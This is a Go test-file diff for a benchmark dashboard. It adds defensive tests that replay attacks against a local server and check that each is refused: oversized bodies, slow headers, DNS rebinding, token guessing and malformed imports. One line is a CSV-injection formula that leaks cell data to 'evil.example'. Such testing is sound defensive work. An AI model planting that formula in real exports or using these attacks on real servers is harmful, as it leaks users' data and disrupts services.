@@ -3,10 +3,19 @@ package handlers
 import (
 	"bytes"
 	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"mime/multipart"
+	"net"
+	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
+	"time"
 
 	"iolab/bench/testdev"
 	"iolab/db"
@@ -49,4 +58,347 @@ func TestQueuedTargetSwappedForDevice(t *testing.T) {
 	if !bytes.Equal(data, make([]byte, len(data))) {
 		t.Fatal("the device behind the swapped symlink was written")
 	}
+}
+
+// liveServer is the dashboard served as iolab serve serves it: HTTPServer
+// on Listener, on a real loopback socket.
+type liveServer struct {
+	*testServer
+	url  string
+	addr string
+}
+
+func startLive(t testing.TB, cfg Config) *liveServer {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg.Listen = ln.Addr().String()
+	ts := newTestServer(t, cfg)
+	hs := ts.srv.HTTPServer()
+	go hs.Serve(ts.srv.Listener(ln))
+	t.Cleanup(func() {
+		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+		defer cancel()
+		hs.Shutdown(ctx)
+	})
+	return &liveServer{testServer: ts, url: "http://" + cfg.Listen, addr: cfg.Listen}
+}
+
+// attackClient never reuses connections, so one attack's half-read
+// answer cannot spill into the next.
+var attackClient = &http.Client{Transport: &http.Transport{DisableKeepAlives: true, ExpectContinueTimeout: 5 * time.Second},
+	CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+
+// send makes one request (header: name, value pairs; "Host" sets the Host
+// header) and returns the status, the Retry-After header and the body.
+func (ls *liveServer) send(t *testing.T, method, path string, body io.Reader, header ...string) (int, http.Header, string) {
+	t.Helper()
+	req, err := http.NewRequest(method, ls.url+path, body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := 0; i+1 < len(header); i += 2 {
+		if header[i] == "Host" {
+			req.Host = header[i+1]
+		} else {
+			req.Header.Set(header[i], header[i+1])
+		}
+	}
+	resp, err := attackClient.Do(req)
+	if err != nil {
+		t.Fatalf("%s %s: %v", method, path, err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+	return resp.StatusCode, resp.Header, string(b)
+}
+
+// exportDoc is an iolab export document of one finished run, edited.
+func exportDoc(t *testing.T, edit func(*db.Export)) []byte {
+	t.Helper()
+	e := db.Export{Format: db.ExportFormat, Version: db.ExportVersion,
+		Run: db.Run{Name: "imported", Status: db.StatusDone, Created: time.Unix(1_780_000_000, 0), Hostname: "lab-b", Kernel: "6.12.0"}}
+	edit(&e)
+	b, err := json.Marshal(e)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// holdElsewhere starts another process that records a running run in the
+// store at path and holds it until the test ends; it returns the run's id
+// and the process's pid.
+func holdElsewhere(t *testing.T, path string) (int64, int) {
+	t.Helper()
+	cmd := exec.Command(os.Args[0], "-test.run=^$")
+	cmd.Env = append(os.Environ(), "IOLAB_TEST_HOLD_RUN="+path)
+	cmd.Stderr = os.Stderr
+	stdin, err := cmd.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	stdout, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { stdin.Close(); cmd.Wait() })
+	var id int64
+	if _, err := fmt.Fscan(stdout, &id); err != nil {
+		t.Fatalf("the holding process: %v", err)
+	}
+	return id, cmd.Process.Pid
+}
+
+// A hostile but fair reviewer's attacks, replayed against a real server:
+// each must get its error code and store nothing.
+func TestAttacks(t *testing.T) {
+	const token = "attack-test-token"
+	limits := HTTPLimits{ReadHeaderTimeout: 300 * time.Millisecond, HeavyWait: 200 * time.Millisecond,
+		MaxUploads: 1, MaxImport: 1 << 20}
+	open := startLive(t, Config{HTTP: limits})
+	guarded := startLive(t, Config{HTTP: limits, Token: token, RequireToken: true})
+	ctx := context.Background()
+
+	// A run another process is running, in the open server's store.
+	heldID, heldPID := holdElsewhere(t, open.store.Path())
+	held := strconv.FormatInt(heldID, 10)
+
+	// Names a spreadsheet would run, brought in by an import.
+	const formula = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
+	fair := seedFairnessRun(t, open.store)
+	_, _, doc := open.send(t, "GET", fmt.Sprintf("/api/runs/%d", fair.ID), nil)
+	quoted, _ := json.Marshal(formula)
+	doc = strings.ReplaceAll(doc, `"fg-reader"`, string(quoted))
+	doc = strings.ReplaceAll(doc, `"6.12.0"`, string(quoted))
+	doc = strings.Replace(doc, `"uid":"`, `"uid":"f`, 1)
+	status, _, body := open.send(t, "POST", "/api/import", strings.NewReader(doc))
+	if status != http.StatusCreated {
+		t.Fatalf("import of the formula-named run: %d %s", status, body)
+	}
+	var imp importedRun
+	if err := json.Unmarshal([]byte(body), &imp); err != nil {
+		t.Fatal(err)
+	}
+	evil := strconv.FormatInt(imp.ID, 10)
+	fairID := strconv.FormatInt(fair.ID, 10)
+
+	bearer := []string{"Authorization", "Bearer " + token}
+	// Just over the limit: the rest of a refused body fits in the
+	// socket's buffers, so the client reads the answer instead of a reset.
+	over := int(limits.MaxImport) + 64<<10
+	big := func(n int) io.Reader { return bytes.NewReader(bytes.Repeat([]byte(" "), n)) }
+	// chunked hides the length, so only reading finds the limit.
+	chunked := func(r io.Reader) io.Reader { return io.MultiReader(r) }
+	var form bytes.Buffer
+	mw := multipart.NewWriter(&form)
+	fw, _ := mw.CreateFormFile("file", "big.json")
+	fw.Write(bytes.Repeat([]byte(" "), over))
+	mw.Close()
+	plan := `{"options":{"filename":"x.dat","size":"1m","rw":"randread","ioengine":"psync","runtime":"1s","time_based":1}}`
+
+	type attack struct {
+		name string
+		srv  *liveServer
+		// do runs the attack and returns what the server answered: status
+		// 0 means it closed the connection.
+		do       func(t *testing.T, ls *liveServer) (int, http.Header, string)
+		status   int
+		contains string
+	}
+	req := func(method, path string, body func() io.Reader, header ...string) func(*testing.T, *liveServer) (int, http.Header, string) {
+		return func(t *testing.T, ls *liveServer) (int, http.Header, string) {
+			var b io.Reader
+			if body != nil {
+				b = body()
+			}
+			return ls.send(t, method, path, b, header...)
+		}
+	}
+	text := func(s string) func() io.Reader { return func() io.Reader { return strings.NewReader(s) } }
+	importDoc := func(edit func(*db.Export)) func() io.Reader {
+		return func() io.Reader { return bytes.NewReader(exportDoc(t, edit)) }
+	}
+	attacks := []attack{
+		// 1. Unbounded bodies.
+		{name: "import over the limit, length given", srv: open, status: 413, contains: "over 1048576 bytes",
+			do: req("POST", "/api/import", func() io.Reader { return big(over) }, "Expect", "100-continue")},
+		{name: "import over the limit, chunked", srv: open, status: 413, contains: "over 1048576 bytes",
+			do: req("POST", "/api/import", func() io.Reader { return chunked(big(over)) })},
+		{name: "plan over 1 MiB", srv: open, status: 413, contains: "over",
+			do: req("POST", "/api/runs", func() io.Reader { return chunked(big(over)) }, "Content-Type", "application/json")},
+		{name: "label edit over 1 MiB", srv: open, status: 413, contains: "over",
+			do: req("PATCH", "/api/runs/"+fairID, func() io.Reader { return big(over) }, "Content-Type", "application/json", "Expect", "100-continue")},
+		{name: "import form over the limit", srv: open, status: 413, contains: "over",
+			do: req("POST", "/import", func() io.Reader { return chunked(bytes.NewReader(form.Bytes())) }, "Content-Type", mw.FormDataContentType())},
+		// 2. Slow clients.
+		{name: "headers never finished", srv: open, status: 0,
+			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
+				c, err := net.Dial("tcp", ls.addr)
+				if err != nil {
+					t.Fatal(err)
+				}
+				defer c.Close()
+				io.WriteString(c, "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
+				c.SetReadDeadline(time.Now().Add(5 * time.Second))
+				start := time.Now()
+				n, err := c.Read(make([]byte, 512))
+				if ne, ok := err.(net.Error); ok && ne.Timeout() {
+					t.Fatal("the server kept a connection without headers for 5 s")
+				}
+				return 0, nil, fmt.Sprintf("closed after %s, %d bytes", time.Since(start).Round(time.Millisecond), n)
+			}},
+		{name: "uploads at once: the second waits, then 429", srv: open, status: 429, contains: "busy",
+			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
+				pr, pw := io.Pipe()
+				defer pw.Close()
+				go func() {
+					r, _ := http.NewRequest("POST", ls.url+"/api/import", pr)
+					r.ContentLength = 1 << 19
+					if resp, err := attackClient.Do(r); err == nil {
+						resp.Body.Close()
+					}
+				}()
+				pw.Write(bytes.Repeat([]byte(" "), 1<<10)) // then stalls, holding the upload turn
+				time.Sleep(100 * time.Millisecond)
+				return ls.send(t, "POST", "/api/import", bytes.NewReader(exportDoc(t, func(*db.Export) {})))
+			}},
+		// 3. Runs another process holds.
+		{name: "delete a run another process runs", srv: open, status: 409, contains: fmt.Sprintf("pid %d", heldPID),
+			do: req("DELETE", "/api/runs/"+held, nil)},
+		{name: "delete it through the page", srv: open, status: 409, contains: fmt.Sprintf("pid %d", heldPID),
+			do: req("POST", "/runs/"+held+"/delete", nil)},
+		{name: "cancel a run another process runs", srv: open, status: 409, contains: fmt.Sprintf("pid %d", heldPID),
+			do: req("POST", "/api/runs/"+held+"/cancel", nil)},
+		// 4. DNS rebinding.
+		{name: "launch for a foreign Host", srv: open, status: 421, contains: "DNS rebinding",
+			do: req("POST", "/api/runs", text(plan), "Host", "evil.example", "Content-Type", "application/json")},
+		{name: "read for a foreign Host", srv: open, status: 421, contains: "DNS rebinding",
+			do: req("GET", "/api/runs", nil, "Host", "evil.example:"+strings.Split(open.addr, ":")[1])},
+		{name: "a foreign Host that ends in localhost", srv: open, status: 421,
+			do: req("GET", "/", nil, "Host", "localhost.evil.example")},
+		// 5. CSV injection.
+		{name: "formula in the compare CSV", srv: open, status: 200, contains: `'=HYPERLINK(`,
+			do: req("GET", "/compare/export.csv?table=diff&run="+fairID+"&run="+evil, nil)},
+		{name: "formula in the fairness CSV", srv: open, status: 200, contains: `'=HYPERLINK(`,
+			do: req("GET", "/charts/export.csv?kind=fairness&run="+evil, nil)},
+		{name: "formula in the steps CSV", srv: open, status: 200, contains: `'=HYPERLINK(`,
+			do: req("GET", "/runs/"+evil+"/steps.csv", nil)},
+		{name: "formula in the jobs CSV", srv: open, status: 200, contains: `'=HYPERLINK(`,
+			do: req("GET", "/compare/export.csv?table=jobs&run="+fairID+"&run="+evil, nil)},
+		// 6. Imports that skip the rules.
+		{name: "import a 10,000-character name", srv: open, status: 400, contains: "longer than 200",
+			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Name = strings.Repeat("n", 10000) }))},
+		{name: "import ESC in a name", srv: open, status: 400, contains: "control characters",
+			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Name = "x\x1b[2J\x1b[H" }))},
+		{name: "import NUL in a name", srv: open, status: 400, contains: "control characters",
+			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Name = "x\x00y" }))},
+		{name: "import 500 labels", srv: open, status: 400, contains: "at most 50",
+			do: req("POST", "/api/import", importDoc(func(e *db.Export) {
+				for i := range 500 {
+					e.Run.Tags = append(e.Run.Tags, "l"+strconv.Itoa(i))
+				}
+			}))},
+		{name: "import labels through the query", srv: open, status: 400, contains: "control characters",
+			do: req("POST", "/api/import?label=a%1Bb", importDoc(func(*db.Export) {}))},
+		{name: "import a huge hostname", srv: open, status: 400, contains: "longer than 255",
+			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Hostname = strings.Repeat("h", 512<<10) }))},
+		{name: "import a run still running", srv: open, status: 400, contains: "must have ended",
+			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Status = db.StatusRunning }))},
+		{name: "import a queued run", srv: open, status: 400, contains: "must have ended",
+			do: req("POST", "/api/import", importDoc(func(e *db.Export) { e.Run.Status = db.StatusQueued }))},
+		{name: "rename to ESC", srv: open, status: 400, contains: "control characters",
+			do: req("PATCH", "/api/runs/"+fairID, text(`{"name":"a\u001bb"}`), "Content-Type", "application/json")},
+		// 7. Sessions and guessing.
+		{name: "a session cookie that was never issued", srv: guarded, status: 401,
+			do: req("POST", "/api/runs", text(plan), "Cookie", sessionCookie+"=00", "Content-Type", "application/json")},
+		{name: "the session after logout", srv: guarded, status: 401, contains: "token",
+			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
+				first, second := login(t, ls, token), login(t, ls, token)
+				if first == second {
+					t.Errorf("two logins got the same session id %q", first)
+				}
+				if st, _, b := ls.send(t, "DELETE", "/api/runs/999", nil, "Cookie", sessionCookie+"="+first); st != 404 {
+					t.Fatalf("with a fresh session: %d %s", st, b)
+				}
+				ls.send(t, "POST", "/logout", nil, "Cookie", sessionCookie+"="+first)
+				if st, _, b := ls.send(t, "DELETE", "/api/runs/999", nil, "Cookie", sessionCookie+"="+second); st != 404 {
+					t.Errorf("another login's session ended with this one: %d %s", st, b)
+				}
+				return ls.send(t, "DELETE", "/api/runs/999", nil, "Cookie", sessionCookie+"="+first)
+			}},
+		{name: "guessing the token at /login", srv: guarded, status: 429, contains: "too many wrong tokens",
+			do: func(t *testing.T, ls *liveServer) (int, http.Header, string) {
+				for i := range loginTries - 1 {
+					if st, _, _ := ls.send(t, "POST", "/login", text("token=guess"+strconv.Itoa(i))(), "Content-Type", "application/x-www-form-urlencoded"); st != 401 {
+						t.Fatalf("wrong token %d: %d", i+1, st)
+					}
+				}
+				st, h, _ := ls.send(t, "POST", "/login", text("token=guess-last")(), "Content-Type", "application/x-www-form-urlencoded")
+				if st != 429 || h.Get("Retry-After") != "60" {
+					t.Errorf("wrong token %d: %d, Retry-After %q", loginTries, st, h.Get("Retry-After"))
+				}
+				// Locked out: even the right token waits, and so does a bearer.
+				if st, _, _ := ls.send(t, "DELETE", "/api/runs/999", nil, bearer...); st != 429 {
+					t.Errorf("a bearer token from a locked-out address: %d", st)
+				}
+				return ls.send(t, "POST", "/login", text("token="+token)(), "Content-Type", "application/x-www-form-urlencoded")
+			}},
+	}
+	for _, a := range attacks {
+		t.Run(a.name, func(t *testing.T) {
+			before, err := a.srv.store.ListRuns(ctx, db.RunFilter{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			status, header, body := a.do(t, a.srv)
+			if status != a.status || !strings.Contains(body, a.contains) {
+				t.Fatalf("status %d, want %d with %q; body:\n%.1000s", status, a.status, a.contains, body)
+			}
+			if status == 429 && header.Get("Retry-After") == "" {
+				t.Error("a 429 without Retry-After")
+			}
+			after, err := a.srv.store.ListRuns(ctx, db.RunFilter{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(after) != len(before) {
+				t.Errorf("%d runs stored before, %d after", len(before), len(after))
+			}
+			if status == 200 && strings.Contains(body, ","+formula[:10]) {
+				t.Errorf("a formula reaches a CSV cell unquoted:\n%.1000s", body)
+			}
+		})
+	}
+	// The held run is still there for its process to finish.
+	if r, err := open.store.GetRun(ctx, heldID); err != nil || r.Status != db.StatusRunning {
+		t.Errorf("the run held elsewhere: %+v %v", r, err)
+	}
+}
+
+// login logs in at ls with token and returns the session id.
+func login(t *testing.T, ls *liveServer, token string) string {
+	t.Helper()
+	req, _ := http.NewRequest("POST", ls.url+"/login", strings.NewReader("token="+token))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	resp, err := attackClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	for _, c := range resp.Cookies() {
+		if c.Name == sessionCookie && c.Value != "" {
+			if c.MaxAge != int(sessionTTL/time.Second) {
+				t.Errorf("session cookie max-age %d", c.MaxAge)
+			}
+			return c.Value
+		}
+	}
+	t.Fatalf("login: %d without a session cookie", resp.StatusCode)
+	return ""
 }
